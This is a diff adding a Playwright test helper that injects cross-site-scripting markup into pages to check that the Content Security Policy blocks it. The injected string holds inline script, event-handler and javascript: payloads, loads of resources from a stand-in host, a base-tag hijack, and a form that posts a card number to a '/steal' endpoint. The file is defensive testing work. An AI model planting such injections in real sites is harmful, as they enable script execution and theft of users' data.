@@ -1,0 +1,85 @@
+import type { Page } from '@playwright/test';
+
+/** A host that no page has any business with. */
+const FOREIGN = 'https://foreign.example';
+
+/** What an attacker who got text into a page would try; each leaves a trace when it works. */
+const INJECTED = `
+<script>document.documentElement.dataset.inline = 'ran'</script>
+<img src="/favicon.svg" alt="" onload="document.documentElement.dataset.handler = 'ran'">
+<a id="injected-link" href="javascript:void(document.documentElement.dataset.scheme = 'ran')">a</a>
+<script src="${FOREIGN}/script.js"></script>
+<link rel="stylesheet" href="${FOREIGN}/style.css">
+<img src="${FOREIGN}/image.png" alt="">
+<iframe src="${FOREIGN}/frame" title="frame"></iframe>
+<object data="${FOREIGN}/object"></object>
+<base href="${FOREIGN}/">
+<form id="injected-form" action="${FOREIGN}/steal"><input name="card" value="4111"></form>`;
+
+/** What the browser blocked, by the directive that said so, and what came through all the same. */
+interface Outcome {
+  readonly blocked: readonly string[];
+  readonly passed: readonly string[];
+}
+
+/** Serves the page at `path` with the injected text in its body, headers and policy as they are. */
+async function serveInjected(page: Page, path: string): Promise<void> {
+  await page.route(
+    (url) => url.pathname === path,
+    async (route) => {
+      const response = await route.fetch();
+      const html = await response.text();
+      await route.fulfill({ response, body: html.replace('</main>', `${INJECTED}</main>`) });
+    },
+    { times: 1 },
+  );
+}
+
+/** Counts what reaches the foreign host. It answers, so that only the policy stands in the way. */
+async function answerForeign(page: Page, reached: string[]): Promise<void> {
+  await page.route(`${FOREIGN}/**`, async (route) => {
+    reached.push(new URL(route.request().url()).pathname);
+    await route.fulfill({ body: "document.documentElement.dataset.foreign = 'ran'" });
+  });
+}
+
+/** Hands every refusal of the policy to the test. */
+async function reportBlocked(page: Page, blocked: string[]): Promise<void> {
+  await page.exposeFunction('reportBlocked', (directive: string) => {
+    blocked.push(directive);
+  });
+  await page.addInitScript(() => {
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      const report: unknown = Reflect.get(window, 'reportBlocked');
+      if (typeof report === 'function') report(effectiveDirective);
+    });
+  });
+}
+
+/** Prepares the page. @returns opens an address as an attacker would have it and touches the bait. */
+export async function attacker(page: Page): Promise<(path: string) => Promise<Outcome>> {
+  const reached: string[] = [];
+  const blocked: string[] = [];
+  await answerForeign(page, reached);
+  await reportBlocked(page, blocked);
+
+  return async (path) => {
+    reached.length = 0;
+    blocked.length = 0;
+    await serveInjected(page, path);
+    await page.goto(path);
+    await page.locator('#injected-link').dispatchEvent('click');
+    await page.locator('#injected-form').evaluate((form) => {
+      if (form instanceof HTMLFormElement) form.requestSubmit();
+    });
+    const { ran, base } = await page.evaluate(() => ({
+      ran: Object.keys({ ...document.documentElement.dataset }),
+      base: document.baseURI,
+    }));
+    const traces = ran.filter((name) => ['inline', 'handler', 'scheme', 'foreign'].includes(name));
+    return {
+      blocked,
+      passed: [...traces, ...reached, ...(base.startsWith(FOREIGN) ? [base] : [])],
+    };
+  };
+}
